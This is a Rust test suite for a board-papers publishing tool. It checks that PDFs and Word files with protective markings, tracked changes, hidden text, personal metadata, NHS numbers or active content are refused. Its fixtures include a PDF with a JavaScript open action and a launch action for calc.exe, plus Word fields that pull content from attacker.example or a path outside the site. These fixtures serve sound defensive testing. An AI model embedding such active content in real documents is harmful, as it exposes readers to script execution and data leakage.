//! Nothing unsafe reaches the public site (issue 27, items 1-5; issue 32, items 1 and 13): given
//! PDF and Word papers carrying markings, tracked changes, comments, hidden text, annotations,
//! scripts, names and NHS numbers, built here byte by byte (a PDF's objects, a Word file's XML
//! parts in a zip), put on the example's public agenda, and refused by `check` and `build`, each
//! error naming its file; nothing is published.
//!
//! A Word paper is never converted here: the PDF LibreOffice would make is put in the site's
//! conversion cache (`cached_path`), so the tests need no LibreOffice, and what is checked
//! is the Word file itself, which the inspection reads.

mod common;

use std::fs;
use std::io::Write;
use std::path::Path;

use oversight_model::cached_path;

/// Runs the binary in `dir`: exit code and stderr.
fn oversight(dir: &Path, args: &[&str]) -> (Option<i32>, String) {
    oversight_with_path(dir, args, None)
}

fn oversight_with_path(dir: &Path, args: &[&str], path: Option<&Path>) -> (Option<i32>, String) {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_oversight"));
    command.args(args).current_dir(dir).env("NO_COLOR", "1");
    if let Some(path) = path {
        command.env("PATH", path);
    }
    let out = command.output().unwrap();
    (out.status.code(), String::from_utf8_lossy(&out.stderr).into_owned())
}

/// A one-page PDF with `lines` of text (Helvetica), and optionally an information dictionary,
/// annotations and extra catalog entries, with a correct cross-reference table.
struct PdfSpec<'a> {
    lines: &'a [&'a str],
    info: &'a [(&'a str, &'a str)],
    /// Each a dictionary, as PDF source.
    annotations: &'a [&'a str],
    /// Extra objects (as PDF source) and catalog entries naming them as `{N}`, the first
    /// extra object's number.
    extra: &'a [&'a str],
    catalog: &'a str,
}

const PLAIN: PdfSpec<'static> = PdfSpec {
    lines: &["Example Board (fictional)", "A paper written elsewhere.", "OFFICIAL"],
    info: &[],
    annotations: &[],
    extra: &[],
    catalog: "",
};

fn pdf(spec: &PdfSpec) -> Vec<u8> {
    let escape = |l: &str| l.replace('(', "\\(").replace(')', "\\)");
    let content: String = std::iter::once("BT /F1 12 Tf 72 760 Td 14 TL\n".to_string())
        .chain(spec.lines.iter().map(|l| format!("({}) '\n", escape(l))))
        .chain(["ET\n".to_string()])
        .collect();
    // 1 catalog, 2 pages, 3 font, 4 content, 5 page, then annotations, extras, info.
    let first_annot = 6;
    let first_extra = first_annot + spec.annotations.len();
    let info_id = first_extra + spec.extra.len();
    let annots = if spec.annotations.is_empty() {
        String::new()
    } else {
        let refs: Vec<String> = (0..spec.annotations.len()).map(|i| format!("{} 0 R", first_annot + i)).collect();
        format!(" /Annots [{}]", refs.join(" "))
    };
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R{} >>", spec.catalog.replace("{N}", &first_extra.to_string())),
        "<< /Type /Pages /Kids [5 0 R] /Count 1 >>".to_string(),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_string(),
        format!("<< /Length {} >>\nstream\n{content}endstream", content.len()),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R{annots} >>"
        ),
    ];
    objects.extend(spec.annotations.iter().map(|a| a.to_string()));
    objects.extend(spec.extra.iter().map(|a| a.to_string()));
    let info: Vec<String> = spec.info.iter().map(|(k, v)| format!("/{k} ({})", escape(v))).collect();
    objects.push(format!("<< {} >>", info.join(" ")));
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, object) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n{object}\nendobj\n", i + 1).bytes());
    }
    let xref = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n \n").bytes());
    }
    out.extend(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R /Info {info_id} 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .bytes(),
    );
    out
}

const W: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;

/// A Word file: its body's XML, the relationships of its document part, and any other parts.
fn docx(body: &str, relationships: &str, parts: &[(&str, String)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let mut all = vec![
        ("[Content_Types].xml", r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#.to_string()),
        ("_rels/.rels", r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#.to_string()),
        ("word/document.xml", format!(r#"<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>"#)),
        ("word/_rels/document.xml.rels", format!(r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relationships}</Relationships>"#)),
    ];
    all.extend(parts.iter().map(|(n, t)| (*n, t.clone())));
    for (name, text) in all {
        zip.start_file(name, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn paragraph(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

/// Puts the given paper `id` (`ext` pdf or docx) in the example site, as an appendix of the
/// public October meeting's item 5.1. A Word paper's PDF goes into the conversion cache.
fn add_paper(site: &Path, id: &str, ext: &str, bytes: &[u8]) {
    let papers = site.join("content/papers");
    fs::write(papers.join(format!("{id}.{ext}")), bytes).unwrap();
    if ext == "docx" {
        let cached = cached_path(site, bytes);
        fs::create_dir_all(cached.parent().unwrap()).unwrap();
        fs::write(cached, pdf(&PLAIN)).unwrap();
    }
    let meeting = site.join("content/meetings/2026-10-board.yaml");
    let text = fs::read_to_string(&meeting).unwrap();
    let text = if text.contains("    appendices:\n") {
        text.replacen(
            "    appendices:\n",
            &format!("    appendices:\n      - paper: {id}\n        title: Appendix {id}\n"),
            1,
        )
    } else {
        text.replacen(
            "    paper: rsp-update\n",
            &format!("    paper: rsp-update\n    appendices:\n      - paper: {id}\n        title: Appendix {id}\n"),
            1,
        )
    };
    fs::write(meeting, text).unwrap();
}

fn details(site: &Path, id: &str, yaml: &str) {
    fs::write(site.join(format!("content/papers/{id}.yaml")), yaml).unwrap();
}

/// The diagnostics' headers (`error[OVS701]: …`) with the location line under each.
fn errors(stderr: &str) -> Vec<String> {
    let lines: Vec<&str> = stderr.lines().collect();
    lines
        .iter()
        .enumerate()
        .filter(|(_, l)| l.starts_with("error["))
        .map(|(i, l)| format!("{l} @ {}", lines.get(i + 1).map(|l| l.trim()).unwrap_or("")))
        .collect()
}

fn has(errors: &[String], code: &str, file: &str, what: &str) -> bool {
    errors.iter().any(|e| e.contains(&format!("[{code}]")) && e.contains(file) && e.contains(what))
}

#[test]
fn issue27_1_a_marking_above_what_may_be_public_is_refused() {
    let site = common::example_copy();
    add_paper(
        site.path(),
        "footed-restricted",
        "pdf",
        &pdf(&PdfSpec { lines: &["Finance report", "Page 2 of 2 Restricted"], ..PLAIN }),
    );
    let labelled = docx(
        &paragraph("A Word appendix."),
        "",
        &[(
            "docProps/custom.xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Classification"><vt:lpwstr>OFFICIAL-SENSITIVE</vt:lpwstr></property></Properties>"#.to_string(),
        )],
    );
    add_paper(site.path(), "labelled", "docx", &labelled);
    // Prose that uses the words is not a marking.
    add_paper(
        site.path(),
        "prose",
        "pdf",
        &pdf(&PdfSpec { lines: &["Confidential patient information is shared under section 251."], ..PLAIN }),
    );
    let (code, stderr) = oversight(site.path(), &["check"]);
    assert_eq!(code, Some(1), "{stderr}");
    let errors = errors(&stderr);
    assert!(has(&errors, "OVS701", "content/papers/footed-restricted.pdf", "Restricted"), "{errors:#?}");
    assert!(has(&errors, "OVS701", "content/papers/labelled.docx", "OFFICIAL-SENSITIVE"), "{errors:#?}");
    assert!(!errors.iter().any(|e| e.contains("prose.pdf")), "{errors:#?}");
    // Allowed, after a person has looked: clean.
    details(site.path(), "footed-restricted", "allow: [protective-marking]\n");
    details(site.path(), "labelled", "allow: [protective-marking]\n");
    let (code, stderr) = oversight(site.path(), &["check"]);
    assert_eq!(code, Some(0), "{stderr}");
}

#[test]
fn issue27_2_tracked_changes_comments_hidden_text_and_active_content_are_refused() {
    let site = common::example_copy();
    let body = format!(
        "{}<w:p><w:ins w:id=\"1\" w:author=\"A\"><w:r><w:t>added</w:t></w:r></w:ins><w:del w:id=\"2\" w:author=\"A\"><w:r><w:delText>removed</w:delText></w:r></w:del></w:p><w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden note</w:t></w:r><w:r><w:commentReference w:id=\"0\"/></w:r></w:p>",
        paragraph("Body.")
    );
    let comments = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:comments {W}><w:comment w:id="0" w:author="A"><w:p><w:r><w:t>Not for the public</w:t></w:r></w:p></w:comment></w:comments>"#
    );
    add_paper(site.path(), "marked-up", "docx", &docx(&body, "", &[("word/comments.xml", comments)]));
    let active = pdf(&PdfSpec {
        annotations: &[
            "<< /Type /Annot /Subtype /Highlight /Rect [72 700 200 720] /QuadPoints [72 720 200 720 72 700 200 700] >>",
            "<< /Type /Annot /Subtype /Text /Rect [72 650 92 670] /Contents (Check with Sam) >>",
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Jane Patient) /Rect [72 600 200 620] >>",
        ],
        extra: &[
            "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
            "<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream",
            "<< /S /Launch /F (calc.exe) >>",
        ],
        catalog: " /OpenAction {N} 0 R",
        ..PLAIN
    });
    add_paper(site.path(), "active", "pdf", &active);
    let (code, stderr) = oversight(site.path(), &["check"]);
    assert_eq!(code, Some(1), "{stderr}");
    let errors = errors(&stderr);
    for (file, what) in [
        ("marked-up.docx", "2 unaccepted changes"),
        ("marked-up.docx", "1 comment"),
        ("marked-up.docx", "hidden text"),
        ("active.pdf", "1 annotation (Highlight)"),
        ("active.pdf", "1 comment"),
        ("active.pdf", "1 form field with a value"),
        ("active.pdf", "1 embedded file"),
        ("active.pdf", "a JavaScript action"),
        ("active.pdf", "a launch action"),
    ] {
        assert!(has(&errors, "OVS702", &format!("content/papers/{file}"), what), "{file}: {what}\n{errors:#?}");
    }
    // Everything but the scripts can be allowed.
    details(site.path(), "marked-up", "allow: [tracked-changes, comments, hidden-text]\n");
    details(site.path(), "active", "allow: [annotations, comments, form-fields, embedded-files]\n");
    let (code, stderr) = oversight(site.path(), &["check"]);
    assert_eq!(code, Some(1));
    let errors = self::errors(&stderr);
    assert_eq!(errors.len(), 2, "{errors:#?}");
    assert!(errors.iter().all(|e| e.contains("[OVS702]") && e.contains("active.pdf")), "{errors:#?}");
}

#[test]
fn issue27_3_metadata_naming_people_is_refused_unless_allowed() {
    let site = common::example_copy();
    let core = r#"<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Appendix</dc:title><dc:creator>Jane Officer</dc:creator><cp:lastModifiedBy>Sam Junior</cp:lastModifiedBy></cp:coreProperties>"#;
    add_paper(site.path(), "named", "docx", &docx(&paragraph("Text."), "", &[("docProps/core.xml", core.to_string())]));
    add_paper(
        site.path(),
        "authored",
        "pdf",
        &pdf(&PdfSpec { info: &[("Author", "Jane Officer"), ("Creator", "Writer")], ..PLAIN }),
    );
    let (code, stderr) = oversight(site.path(), &["check"]);
    assert_eq!(code, Some(1), "{stderr}");
    let errors = errors(&stderr);
    assert!(has(&errors, "OVS703", "content/papers/named.docx", "author `Jane Officer`"), "{errors:#?}");
    assert!(has(&errors, "OVS703", "content/papers/named.docx", "last modified by `Sam Junior`"), "{errors:#?}");
    assert!(has(&errors, "OVS703", "content/papers/authored.pdf", "author `Jane Officer`"), "{errors:#?}");
    assert!(!errors.iter().any(|e| e.contains("Writer")), "the program is not a person: {errors:#?}");
    details(site.path(), "named", "allow: [metadata-names]\n");
    details(site.path(), "authored", "allow: [metadata-names]\n");
    assert_eq!(oversight(site.path(), &["check"]).0, Some(0));
}

#[test]
fn issue27_4_nhs_numbers_are_refused_in_every_output() {
    let site = common::example_copy();
    let out = site.path().join("public");
    // A first, clean build: what a refused build must leave as it was.
    let (code, stderr) = oversight(site.path(), &["build"]);
    assert_eq!(code, Some(0), "{stderr}");
    let before = fs::read(out.join("index.html")).unwrap();
    // In a page: check finds it at its line.
    let page = site.path().join("content/pages/contact.md");
    fs::write(&page, "---\ntitle: Contact\ndate: 2026-01-01\n---\nCall about patient 943 476 5919.\n").unwrap();
    let (code, stderr) = oversight(site.path(), &["check"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("error[OVS704]") && stderr.contains("content/pages/contact.md:5:20"), "{stderr}");
    fs::remove_file(&page).unwrap();
    // In the text of a given paper.
    add_paper(site.path(), "list", "pdf", &pdf(&PdfSpec { lines: &["Patient 9434765919 was discussed."], ..PLAIN }));
    let (code, stderr) = oversight(site.path(), &["build"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(has(&errors(&stderr), "OVS704", "content/papers/list.pdf", "9434765919"), "{stderr}");
    fs::remove_file(site.path().join("content/papers/list.pdf")).unwrap();
    let meeting = site.path().join("content/meetings/2026-10-board.yaml");
    let text = fs::read_to_string(&meeting)
        .unwrap()
        .replace("    appendices:\n      - paper: list\n        title: Appendix list\n", "");
    fs::write(&meeting, text).unwrap();
    // In the theme's style sheet, which no check reads: the build refuses, naming the file it
    // would write, at its line.
    let theme = site.path().join("themes/nhs");
    fs::create_dir_all(&theme).unwrap();
    let css = fs::read_to_string(common::root().join("themes/nhs/style.css")).unwrap();
    fs::write(theme.join("style.css"), format!("/* a\n943-476-5919 */\n{css}")).unwrap();
    assert_eq!(oversight(site.path(), &["check"]).0, Some(0));
    let (code, stderr) = oversight(site.path(), &["build"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("error[OVS704]") && stderr.contains("public/assets/style.css:2:1"), "{stderr}");
    assert!(fs::read(out.join("index.html")).unwrap() == before, "the previous output is untouched");
}

#[test]
fn issue27_5_an_official_sensitive_paper_on_a_public_agenda_is_an_error() {
    let site = common::example_copy();
    let paper = site.path().join("content/papers/rsp-update.md");
    let text = fs::read_to_string(&paper)
        .unwrap()
        .replace("classification: Official\n", "classification: OFFICIAL-SENSITIVE\n");
    fs::write(&paper, text).unwrap();
    let (code, stderr) = oversight(site.path(), &["check"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("error[OVS611]") && stderr.contains("content/meetings/2026-10-board.yaml:32:12"),
        "{stderr}"
    );
}

#[test]
fn issue32_1_a_word_paper_linking_outside_content_is_refused_before_libreoffice_runs() {
    let site = common::example_copy();
    // A fake LibreOffice that says when it is run.
    let bin = tempfile::tempdir().unwrap();
    let ran = bin.path().join("ran");
    let soffice = bin.path().join("soffice");
    fs::write(&soffice, format!("#!/bin/sh\ntouch '{}'\nexit 1\n", ran.display())).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&soffice, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let by_path = docx(
        r#"<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId9"/></w:drawing></w:r></w:p>"#,
        r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="../../outside/secret.png" TargetMode="External"/><Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.england.nhs.uk/" TargetMode="External"/>"#,
        &[],
    );
    let by_field = docx(
        r#"<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://attacker.example/x.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"#,
        "",
        &[],
    );
    // Not cached: LibreOffice would be run for them if they were not refused first.
    for (id, bytes) in [("by-path", &by_path), ("by-field", &by_field)] {
        fs::write(site.path().join(format!("content/papers/{id}.docx")), bytes).unwrap();
    }
    let meeting = site.path().join("content/meetings/2026-10-board.yaml");
    let text = fs::read_to_string(&meeting).unwrap().replacen(
        "    paper: rsp-update\n",
        "    paper: rsp-update\n    appendices:\n      - paper: by-path\n        title: A\n      - paper: by-field\n        title: B\n",
        1,
    );
    fs::write(&meeting, text).unwrap();
    let path = std::env::join_paths([bin.path(), Path::new("/usr/bin"), Path::new("/bin")]).unwrap();
    let (code, stderr) = oversight_with_path(site.path(), &["check"], Some(Path::new(&path)));
    assert_eq!(code, Some(1), "{stderr}");
    let errors = errors(&stderr);
    assert!(has(&errors, "OVS009", "content/papers/by-path.docx", "outside/secret.png"), "{errors:#?}");
    assert!(!errors.iter().any(|e| e.contains("england.nhs.uk")), "a hyperlink is not fetched: {errors:#?}");
    assert!(has(&errors, "OVS009", "content/papers/by-field.docx", "INCLUDETEXT"), "{errors:#?}");
    assert!(!ran.exists(), "LibreOffice was run for a Word file that links outside content");
}

/// The leak test of issue 27: the example plus given papers carrying each problem; the build
/// refuses, every error names its file, and nothing is published.
#[test]
fn given_papers_carrying_each_problem_are_never_published() {
    let site = common::example_copy();
    let out = site.path().join("public");
    add_paper(site.path(), "leak-marking", "pdf", &pdf(&PdfSpec { lines: &["CONFIDENTIAL"], ..PLAIN }));
    add_paper(
        site.path(),
        "leak-comment",
        "pdf",
        &pdf(&PdfSpec { annotations: &["<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >>"], ..PLAIN }),
    );
    add_paper(site.path(), "leak-author", "pdf", &pdf(&PdfSpec { info: &[("Author", "Jane Officer")], ..PLAIN }));
    add_paper(site.path(), "leak-nhs", "pdf", &pdf(&PdfSpec { lines: &["943 476 5919"], ..PLAIN }));
    add_paper(
        site.path(),
        "leak-changes",
        "docx",
        &docx("<w:p><w:ins w:id=\"1\"><w:r><w:t>x</w:t></w:r></w:ins></w:p>", "", &[]),
    );
    add_paper(
        site.path(),
        "leak-hidden",
        "docx",
        &docx("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>", "", &[]),
    );
    let (code, stderr) = oversight(site.path(), &["build"]);
    assert_eq!(code, Some(1), "{stderr}");
    let errors = errors(&stderr);
    for (code, file) in [
        ("OVS701", "leak-marking.pdf"),
        ("OVS702", "leak-comment.pdf"),
        ("OVS703", "leak-author.pdf"),
        ("OVS704", "leak-nhs.pdf"),
        ("OVS702", "leak-changes.docx"),
        ("OVS702", "leak-hidden.docx"),
    ] {
        assert!(has(&errors, code, &format!("content/papers/{file}"), ""), "{code} {file}: {errors:#?}");
    }
    assert!(!out.exists(), "nothing is published");
}
